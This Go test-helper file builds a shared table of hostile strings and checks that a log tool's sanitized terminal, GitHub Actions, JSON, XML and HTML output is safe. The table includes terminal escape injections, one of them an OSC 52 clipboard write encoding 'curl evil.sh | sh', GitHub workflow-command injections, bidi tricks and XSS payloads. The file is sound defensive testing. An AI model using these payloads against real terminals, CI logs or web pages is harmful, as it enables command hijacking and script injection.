// Package sanitizetest holds the shared table of hostile strings and the
// assertions every output kind is held to. Tests of sanitize, redact, cmd
// and tui use the same table, so a new attack added here is tried on every
// output.
package sanitizetest

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/podflow/podflow/internal/sanitize"
)

// Case is one hostile string. Marker is a plain word inside Value that
// survives sanitizing, so a test can tell the value reached the output.
// Against names the output it attacks: "terminal" values fail Problem as
// they are; "github", "html" and "markdown" ones are plain text to a
// terminal and attack only that format.
type Case struct {
	Name, Value, Marker, Against string
}

// Hostile is the shared table: what someone who names a pod, sets an image
// or writes a container's output can put into a kubelet log.
var Hostile = []Case{
	{"csi colour", "hz01\x1b[31mred\x1b[0m", "hz01", "terminal"},
	{"csi clear screen", "hz02\x1b[2J\x1b[1;1H\x1b[?1049h", "hz02", "terminal"},
	{"osc 52 clipboard", "hz03\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "hz03", "terminal"},
	{"osc 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\hz04\x1b]8;;\x1b\\", "hz04", "terminal"},
	{"osc title 8-bit", "hz05\u009d0;pwned\u009c\u009b31m", "hz05", "terminal"},
	{"dcs and apc", "hz06\x1bPq#0;2\x1b\\\x1b_apc\x1b\\", "hz06", "terminal"},
	{"bare cr", "hz07\rFAKE-OK", "hz07", "terminal"},
	{"backspace", "hz08xxx\b\b\bOK!", "hz08", "terminal"},
	{"nul del bell", "hz09\x00\x7f\x07", "hz09", "terminal"},
	{"bidi override", "hz10\u202egpj.exe\u202c", "hz10", "terminal"},
	{"bidi isolates", "\u2066hz11\u2069\u2067\u2068", "hz11", "terminal"},
	{"zero width", "hz\u200b12\u200d\ufeff\u2060", "hz12", "terminal"},
	{"lrm rlm alm", "hz13\u200e\u200f\u061c", "hz13", "terminal"},
	{"line separators", "hz14\u2028x\u2029y\u0085z", "hz14", "terminal"},
	{"tag characters", "hz15\U000E0041\U000E0069\U000E007F", "hz15", "terminal"},
	{"workflow add-mask", "::add-mask::hz16", "hz16", "terminal"},
	{"workflow error", "::error file=x,line=1::hz17 pwned", "hz17", "terminal"},
	{"workflow stop-commands", "::stop-commands::hz18", "hz18", "terminal"},
	{"workflow legacy", "hz19 ##[error]pwned ##[set-output name=x]y", "hz19", "terminal"},
	{"workflow after newline", "hz20\n::warning::newline\r::notice::cr", "hz20", "terminal"},
	{"workflow after nbsp", "\u00a0\u3000::warning::hz21", "hz21", "terminal"},
	{"github percent", "hz22%0A::error::percent%25", "hz22", "github"},
	{"xml forbidden", "hz23\x01\x0b\x0c\ufffe\uffff]]><!--", "hz23", "terminal"},
	{"invalid utf-8", "hz24\xff\xfe\xed\xa0\x80", "hz24", "terminal"},
	{"html script", "hz25</title><script>alert(1)</script>", "hz25", "html"},
	{"html attribute", "hz26\" onmouseover=\"alert(1)\" x='<img src=x onerror=alert(2)>", "hz26", "html"},
	{"template and js url", "hz27{{.Title}}javascript:alert(3)", "hz27", "html"},
	{"markdown", "hz28 | [x](javascript:alert(4)) ![i](http://evil.example/i.png) `code` <b>", "hz28", "markdown"},
}

// Markers lists every Marker.
func Markers() []string {
	var out []string
	for _, c := range Hostile {
		out = append(out, c.Marker)
	}
	return out
}

// Problem describes why out is not safe terminal/CI text, or "" when it is:
// a control byte other than TAB and LF (ESC included), DEL, a C1 control, a
// hidden or bidi character, invalid UTF-8, or a GitHub workflow command.
func Problem(out string) string {
	if !utf8.ValidString(out) {
		i := 0
		for i < len(out) {
			r, n := utf8.DecodeRuneInString(out[i:])
			if r == utf8.RuneError && n <= 1 {
				break
			}
			i += n
		}
		return "invalid UTF-8 near " + context(out, i)
	}
	for i, r := range out {
		if sanitize.Unsafe(r) {
			return "unsafe character " + quoteRune(r) + " near " + context(out, i)
		}
	}
	for _, l := range strings.FieldsFunc(out, func(r rune) bool { return r == '\n' || r == '\r' }) {
		if strings.HasPrefix(strings.TrimLeftFunc(l, unicode.IsSpace), "::") {
			return "workflow command at line start: " + l
		}
		if strings.Contains(l, "##[") {
			return "legacy workflow command: " + l
		}
	}
	return ""
}

// GitHub fails t when out is not a list of workflow commands podflow may
// write (::error, ::warning, ::notice) whose properties hold no ':' (so
// none can end early) and whose message is safe text. The message may
// hold "::" and "##[": the runner parses a line once, as the command it
// starts with.
func GitHub(t testing.TB, where, out string) {
	t.Helper()
	re := regexp.MustCompile(`^::(error|warning|notice) ([^:\r]*)::(.*)$`)
	for _, l := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		m := re.FindStringSubmatch(l)
		if m == nil {
			t.Errorf("%s: not a workflow command podflow writes: %q", where, l)
			continue
		}
		if p := Problem("x " + strings.ReplaceAll(m[2]+" "+m[3], "##[", "")); p != "" {
			t.Errorf("%s: %s", where, p)
		}
	}
}

// Text fails t when out is not safe terminal/CI text (see Problem).
func Text(t testing.TB, where, out string) {
	t.Helper()
	if p := Problem(out); p != "" {
		t.Errorf("%s: %s", where, p)
	}
}

// JSON fails t when out is not a stream of valid JSON values or is not safe
// text: hostile characters may appear only \u-escaped.
func JSON(t testing.TB, where, out string) {
	t.Helper()
	Text(t, where, out)
	dec := json.NewDecoder(strings.NewReader(out))
	for {
		var v any
		err := dec.Decode(&v)
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Errorf("%s: not JSON: %v", where, err)
			return
		}
	}
}

// XML fails t when out is not well-formed XML 1.0 or holds a character XML
// forbids or an unsafe one.
func XML(t testing.TB, where, out string) {
	t.Helper()
	Text(t, where, out)
	dec := xml.NewDecoder(strings.NewReader(out))
	for {
		_, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Errorf("%s: not well-formed XML: %v", where, err)
			return
		}
	}
}

// HTML fails t when out carries markup that came from the log: a hostile
// value's element or attribute unescaped, or a script element beyond the
// page's own.
func HTML(t testing.TB, where, out string, ownScripts int) {
	t.Helper()
	Text(t, where, out)
	if n := strings.Count(strings.ToLower(out), "<script"); n != ownScripts {
		t.Errorf("%s: %d <script elements, want %d", where, n, ownScripts)
	}
	// Inside escaped text "onerror=" is harmless; what must not survive is
	// the markup that would make it an element or an attribute.
	for _, bad := range []string{"<script>alert", "<img src", `" onmouseover="`, "</title><script"} {
		if strings.Contains(out, bad) {
			t.Errorf("%s: unescaped %q near %s", where, bad, context(out, strings.Index(out, bad)))
		}
	}
}

func quoteRune(r rune) string {
	b, _ := json.Marshal(string(r))
	return string(b)
}

func context(s string, i int) string {
	from, to := max(i-40, 0), min(i+40, len(s))
	var b bytes.Buffer
	b.WriteString("\"")
	for _, r := range s[from:to] {
		if r < 0x20 || r >= 0x7f && r <= 0x9f || sanitize.Hidden(r) {
			b.WriteString(strings.Trim(quoteRune(r), `"`))
			continue
		}
		b.WriteRune(r)
	}
	b.WriteString("\"")
	return b.String()
}
